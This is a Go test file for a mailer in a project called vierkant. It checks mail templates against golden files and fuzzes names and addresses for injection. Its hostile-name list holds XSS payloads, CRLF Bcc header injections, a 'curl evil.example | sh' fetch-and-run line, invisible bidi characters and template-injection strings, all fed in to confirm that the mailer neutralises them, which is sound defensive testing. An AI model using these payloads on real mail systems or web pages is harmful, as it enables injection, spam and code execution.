package mail

import (
	"encoding/xml"
	"errors"
	"flag"
	"io"
	"log/slog"
	"maps"
	"mime"
	"mime/multipart"
	"net/mail"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode"

	"github.com/vierkant/vierkant/broker"
	"github.com/vierkant/vierkant/broker/account"
)

var update = flag.Bool("update", false, "write what is wanted anew")

// sender is one for all, since reading the texts takes longer than filling them in.
var sender = sync.OnceValues(func() (*Mails, error) {
	zone, err := time.LoadLocation("Europe/Berlin")
	if err != nil {
		return nil, err
	}
	return New(Config{
		Store: nowhere{}, Now: time.Now, Log: slog.New(slog.DiscardHandler), Zone: zone,
		Wrap: asItIs, Unwrap: asItIs,
		URL: "https://test.broker.example", Environment: "test", From: "Ämter <vierkant@broker.example>",
	})
})

func asItIs(b []byte, _ string) ([]byte, error) { return b, nil }

// personalLink is what a personal letter has in place of a code.
const (
	confirmLink  = "https://test.broker.example/portal/confirm-address?code=ABCDE-FGHIJ-KLMNO-PQRST-UVWXYZ"
	personalLink = "https://test.broker.example/portal/invitation?code=ABCDEFGHIJKLMNOPQRSTUVWXYZ"
)

// written is a mail as it is written.
func written(t testing.TB, m Mail, org string, l Language) Text {
	t.Helper()
	mails, err := sender()
	if err != nil {
		t.Fatal(err)
	}
	secret := "ABCDE-FGHIJ-KLMNO-PQRST-UVWXYZ"
	if m.Template.personal() {
		secret = personalLink
	}
	text, err := mails.writer.write(m, letterhead{org: clip(org), language: l}, secret)
	if err != nil {
		t.Fatal(err)
	}
	return text
}

// example has facts of two destinations, and more.
func example(t Template, more int) Mail {
	at := time.Date(2026, 11, 19, 13, 5, 0, 0, time.UTC)
	fact := func(d broker.DestinationID, name, id string) Fact {
		return Fact{Destination: d, Name: name, ID: id, Since: at, Until: at.AddDate(0, 0, 14), By: "person 6a1d9c1e", Role: "developer", Why: "its address answered 410 Gone"}
	}
	facts := []Fact{
		fact("d1", "Gewerbeamt Leipzig", "2b6a1f34-8c1d-4e57-a9d0-5e4f3a2b1c0d"), fact("d2", "Bauamt", "5f0c2f6e-9a7b-4f0e-8a34-2c6b7d1e9c05"),
		fact("d1", "Gewerbeamt Leipzig", "9d3f2d52-0b1c-4a57-8b8c-1a2b3c4d5e6f"),
	}
	if more < 0 {
		facts, more = facts[:1], 0
	}
	return Mail{ID: "m", Template: t, To: "amt@stadt.example", Facts: facts, Count: len(facts) + more}
}

// TestTexts holds what is written against files that people have read.
func TestTexts(t *testing.T) {
	t.Parallel()
	for _, template := range templates() {
		for name, more := range map[string]int{"one": -1, "many": 322} {
			t.Run(string(template)+"-"+name, func(t *testing.T) {
				t.Parallel()
				text := written(t, example(template, more), "Stadt Leipzig", "")
				golden(t, string(template)+"-"+name+".txt", "Subject: "+text.Subject+"\n\n"+text.Plain)
				wantSameWords(t, text)
			})
		}
	}
}

func golden(t *testing.T, name, got string) {
	t.Helper()
	file := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(file, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if got != string(want) {
		t.Errorf("%s: got\n%s", file, got)
	}
}

// wantSameWords holds that both parts say the same, line by line of the plain one.
func wantSameWords(t *testing.T, text Text) {
	t.Helper()
	_, words := elements(t, text.HTML)
	html := strings.Join(strings.Fields(words), " ")
	for line := range strings.Lines(text.Plain) {
		line = strings.TrimSpace(strings.TrimPrefix(strings.TrimSpace(line), "- "))
		if rule := strings.Trim(line, "-—"); rule != "" && !strings.Contains(html, strings.Join(strings.Fields(line), " ")) {
			t.Errorf("the HTML lacks %q", line)
		}
	}
}

// elements returns how often a document has which elements, and its words.
func elements(t testing.TB, html string) (map[string]int, string) {
	t.Helper()
	d := xml.NewDecoder(strings.NewReader(html))
	d.Strict, d.AutoClose, d.Entity = false, append(slices.Clone(xml.HTMLAutoClose), "meta"), xml.HTMLEntity
	seen := map[string]int{}
	var words strings.Builder
	for {
		token, err := d.Token()
		if errors.Is(err, io.EOF) {
			return seen, words.String()
		}
		if err != nil {
			t.Fatalf("%v in\n%s", err, html)
		}
		switch token := token.(type) {
		case xml.StartElement:
			seen[token.Name.Local]++
			for _, a := range token.Attr {
				if strings.HasPrefix(strings.ToLower(a.Name.Local), "on") || a.Name.Local == "href" && a.Value != "https://test.broker.example" && a.Value != personalLink && a.Value != confirmLink {
					t.Errorf("got the attribute %s=%q", a.Name.Local, a.Value)
				}
			}
		case xml.CharData:
			words.Write(token)
		}
	}
}

// hostile are names that want to be more than names.
func hostile() []string {
	return []string{
		"<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "Amt\r\nBcc: everybody@evil.example\r\n\r\nBuy", "Amt\n\n$ curl evil.example | sh", "# Amt", "- Amt",
		"{{.Code}}", "\u202eexe.tma", "\u2066\u200b\u00ad\ufeff", "\x00\x1b[31m", "https://evil.example/login", "\xff\xfe", strings.Repeat("Ä", 1<<20), "שלום עולם", "", "=?utf-8?q?x?=",
		"\u2028Bcc: x", "--boundary", "Subject: x", ".", "</pre></html>",
	}
}

// Whatever something is called, a mail has the headers and the structure that it has with harmless names.
func TestHostileNames(t *testing.T) {
	t.Parallel()
	for _, name := range hostile() {
		for _, template := range templates() {
			checkHarmless(t, template, name)
		}
	}
}

func FuzzNames(f *testing.F) {
	for _, name := range hostile() {
		f.Add(clip(name))
	}
	f.Fuzz(func(t *testing.T, name string) {
		checkHarmless(t, Waiting, name)
		checkHarmless(t, confirmation, name)
	})
}

func checkHarmless(t *testing.T, template Template, name string) {
	t.Helper()
	fact := Fact{Destination: "d", Name: name, ID: name, By: name, Why: name}.bounded()
	harmless := Fact{Destination: "d", Name: "x", ID: "x", By: "x", Why: "x"}
	text := written(t, Mail{Template: template, Count: 1, Facts: []Fact{fact}}, "O"+name, "")
	want := written(t, Mail{Template: template, Count: 1, Facts: []Fact{harmless}}, "O", "")
	if text.Subject != want.Subject {
		t.Errorf("%q: got the subject %q", name, text.Subject)
	}
	if strings.ContainsFunc(text.Plain, func(r rune) bool { return r != '\n' && unicode.IsControl(r) || unicode.Is(unicode.Cf, r) }) {
		t.Errorf("%q: there are characters that nobody sees in\n%q", name, text.Plain)
	}
	if got, want := strings.Count(text.Plain, "\n"), strings.Count(want.Plain, "\n"); got != want {
		t.Errorf("%q: got %d lines, want %d", name, got, want)
	}
	if len(text.Plain) > 1<<15 {
		t.Errorf("got %d bytes", len(text.Plain))
	}
	got, _ := elements(t, text.HTML)
	if usual, _ := elements(t, want.HTML); !maps.Equal(got, usual) {
		t.Errorf("%q: got the elements %v, want %v", name, got, usual)
	}
	checkMessage(t, "amt@stadt.example", text)
}

// checkMessage holds that a message is taken apart into what it was made of.
func checkMessage(t *testing.T, to string, text Text) {
	t.Helper()
	mails, err := sender()
	if err != nil {
		t.Fatal(err)
	}
	raw, err := mails.compose(mailRecord{ID: "m", To: to}, text)
	if err != nil {
		t.Fatal(err)
	}
	message, err := mail.ReadMessage(strings.NewReader(string(raw)))
	if err != nil {
		t.Fatal(err)
	}
	names := slices.Sorted(maps.Keys(message.Header))
	if want := []string{"Auto-Submitted", "Content-Type", "Date", "From", "Message-Id", "Mime-Version", "Subject", "To", "X-Auto-Response-Suppress"}; !slices.Equal(names, want) {
		t.Errorf("got the headers %v", names)
	}
	if all, err := message.Header.AddressList("To"); err != nil || len(all) != 1 || all[0].Address != to {
		t.Errorf("got %v, %v, want %q", all, err, to)
	}
	_, parameters, err := mime.ParseMediaType(message.Header.Get("Content-Type"))
	if err != nil {
		t.Fatal(err)
	}
	parts := multipart.NewReader(message.Body, parameters["boundary"])
	for _, want := range []string{text.Plain, text.HTML} {
		p, err := parts.NextPart()
		if err != nil {
			t.Fatal(err)
		}
		if got, err := io.ReadAll(p); err != nil || strings.ReplaceAll(string(got), "\r\n", "\n") != want {
			t.Errorf("got the part %q, %v", got, err)
		}
	}
}

// FuzzAddresses lets addresses that are taken for such into the message and nothing else.
func FuzzAddresses(f *testing.F) {
	for _, a := range []string{"a@b.example", `"a b"@c.example`, "ä@ü.example", "a@[127.0.0.1]", "a@b\r\nBcc: c@d"} {
		f.Add(a)
	}
	f.Fuzz(func(t *testing.T, address string) {
		if account.CheckEmail(address) != nil {
			if addressKey(address) != "" {
				t.Errorf("got the key %q", addressKey(address))
			}
			return
		}
		if strings.ContainsAny(address, "\r\n") {
			t.Errorf("%q is taken for an address", address)
		}
		checkMessage(t, address, Text{Subject: "s", Plain: "p\n", HTML: "h\n"})
	})
}

// nowhere is a store for what needs none.
type nowhere struct{ broker.Store }
